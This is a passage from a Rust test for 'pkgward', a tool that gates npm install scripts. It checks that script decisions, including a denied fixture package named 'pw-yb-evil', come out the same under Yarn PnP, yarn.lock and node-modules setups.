    assert!(o.status.success(), "{}", text(&o.stderr));
    let shim = scripts(&g);
    let cache = g.sb.root().join("berry-cache");
    let cache = cache.to_str().unwrap();
    let check = |rows: &[serde_json::Value], how: &str| {
        let key = |r: &serde_json::Value| {
            format!(
                "{} {} {} {}",
                r["package"], r["version"], r["script"], r["decision"]
            )
        };
        let mut got: Vec<String> = rows.iter().map(key).collect();
        got.sort();
        // The same packages and decisions as the shim's records.
        let mut want: Vec<String> = shim.iter().map(key).collect();
        want.sort();
        want.dedup();
        assert_eq!(got, want, "{how}: {rows:#?}");
        assert_eq!(rows.len(), 7, "{how}: {rows:#?}");
        let evil = rows.iter().find(|r| r["package"] == "pw-yb-evil").unwrap();
        assert_eq!(evil["decision"], "deny", "{how}");
        assert_eq!(evil["command"], "node evil.js", "{how}");
        assert_eq!(
            evil["approve"], "pkgward approve npm:pw-yb-evil@1.0.0",
            "{how}"
        );
        let spoof = rows.iter().find(|r| r["package"] == "pw-yb-spoof").unwrap();
        assert_eq!(spoof["decision"], "deny", "{how}");
        let dep = rows.iter().find(|r| r["package"] == "pw-yb-dep").unwrap();
        assert_eq!(dep["decision"], "approved", "{how}");
        let app = rows.iter().find(|r| r["package"] == "pw-yb-app").unwrap();
        assert_eq!(app["path"], ".", "{how}");
        assert_eq!(
            app["approve"], "pkgward approve npm:pw-yb-app@local",
            "{how}"
        );
    };
    check(&scripts_list(&g, &[]), "pnp");
    // Without the PnP data: yarn.lock and the cache.
    for f in [".pnp.cjs", ".pnp.data.json"] {
        let _ = std::fs::remove_file(g.sb.work.join(f));
    }
    check(
        &scripts_list(&g, &[("YARN_CACHE_FOLDER", cache)]),
        "yarn.lock",
    );
    // The node-modules linker (its own install state).
    set_linker(&g, "node-modules");
    let o = yarn(&g, &["install"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert!(g.sb.work.join("node_modules/.yarn-state.yml").is_file());
    check(&scripts_list(&g, &[]), "node-modules");
}
